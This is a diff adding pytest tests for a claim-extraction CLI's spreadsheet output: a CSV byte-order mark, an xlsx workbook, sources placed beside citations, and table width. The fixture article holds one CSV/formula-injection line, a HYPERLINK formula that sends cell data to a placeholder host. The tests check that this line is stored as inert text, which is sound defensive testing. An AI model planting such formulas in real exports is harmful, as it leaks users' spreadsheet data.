@@ -1,0 +1,92 @@
+"""Spreadsheet-ready output: the BOM for Excel, the xlsx workbook, sources beside claims, and a
+table view that fits a terminal."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from typer.testing import CliRunner
+
+from claimtrace.cli import app
+
+ARTICLE = """Sea levels rose 20 cm between 1901 and 2018.[1] Café owners in Zürich said prices doubled.[2]
+=HYPERLINK("http://example.com/?leak="&A2,"See source [1]") is what an attacker writes.
+Unemployment fell to 4.1 percent in 2019, officials said. See the agency's report.[7]
+
+References
+[1] Church, J. A. and White, N. J. (2011). Sea-level rise from the late 19th to the early 21st century. Surv Geophys 32: 585-602. doi:10.1007/s10712-011-9119-1
+[2] Meier, A. (2020). "Prices in Zürich". Example News. https://example.org/zurich
+"""
+
+
+@pytest.fixture
+def article(tmp_path):
+    path = tmp_path / "article.txt"
+    path.write_text(ARTICLE, encoding="utf-8")
+    return path
+
+
+def test_excel_option_writes_a_bom_and_csv_still_parses(article):
+    result = CliRunner().invoke(app, ["extract", str(article), "-f", "csv", "--excel"])
+    assert result.exit_code == 0, result.output
+    assert result.stdout.startswith("\ufeffdoc,id,")
+    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
+    assert any("Zürich" in row["text"] for row in rows)
+    plain = CliRunner().invoke(app, ["extract", str(article), "-f", "csv"]).stdout
+    assert not plain.startswith("\ufeff")
+
+
+def test_sources_sit_beside_the_citations(article):
+    result = CliRunner().invoke(app, ["extract", str(article), "-f", "csv"])
+    rows = {row["text"][:15]: row for row in csv.DictReader(io.StringIO(result.stdout))}
+    sea = rows["Sea levels rose"]
+    assert sea["citations"] == "1"
+    assert sea["sources"] == "[1] Church 2011. Sea-level rise from the late 19th to the early 21st century. doi:10.1007/s10712-011-9119-1"
+    assert rows["Café owners in "]["sources"] == "[2] Meier 2020. Prices in Zürich. https://example.org/zurich"
+    assert rows["Unemployment fe"]["sources"] == ""  # [7] has no entry: nothing to show
+
+
+def test_xlsx_workbook_reads_back(article, tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    out = tmp_path / "ledger.xlsx"
+    result = CliRunner().invoke(app, ["extract", str(article), "-o", str(out), "--all"])
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(out)
+    assert book.sheetnames == ["Claims", "References", "Summary"]
+    claims = book["Claims"]
+    header = [c.value for c in claims[1]]
+    assert claims.freeze_panes == "A2" and claims.auto_filter.ref
+    rows = [dict(zip(header, (c for c in row))) for row in claims.iter_rows(min_row=2)]
+    # No cell is a formula, not even the one written to look like one.
+    assert all(cell.data_type != "f" for row in claims.iter_rows() for cell in row)
+    attack = next(r for r in rows if str(r["text"].value).startswith("=HYPERLINK"))
+    assert attack["text"].data_type == "s"
+    sea = next(r for r in rows if str(r["text"].value).startswith("Sea levels"))
+    assert sea["is_claim"].value is True and isinstance(sea["score"].value, float)
+    assert sea["citations"].hyperlink.location == "'References'!A2"  # jumps to entry [1]
+    uncited = next(r for r in rows if r["is_claim"].value and not r["citations"].value and not r["links"].value)
+    assert uncited["text"].fill.fgColor.rgb.endswith("FCE4D6")  # uncited claims stand out
+    refs = book["References"]
+    doi = [c for c in refs[2] if c.hyperlink is not None]
+    assert doi and doi[0].hyperlink.target == "https://doi.org/10.1007/s10712-011-9119-1"
+    summary = [[c.value for c in row] for row in book["Summary"].iter_rows(values_only=False)]
+    assert summary[1][0] == str(article) and summary[-1][0] == "(all documents)"
+
+
+def test_references_command_writes_xlsx(article, tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    out = tmp_path / "refs.xlsx"
+    assert CliRunner().invoke(app, ["references", str(article), "-o", str(out)]).exit_code == 0
+    book = openpyxl.load_workbook(out)
+    assert book.sheetnames == ["References", "Summary"]
+    assert book["References"].max_row == 3
+
+
+def test_table_fits_80_columns_and_wide_shows_everything(article):
+    narrow = CliRunner().invoke(app, ["extract", str(article), "-f", "table"], terminal_width=80).stdout
+    assert max(len(line) for line in narrow.splitlines()) <= 80
+    assert "…" in narrow and "why" not in narrow
+    wide = CliRunner().invoke(app, ["extract", str(article), "-f", "table", "--wide"]).stdout
+    assert "why" in wide and "sources" in wide and "Church 2011" in wide
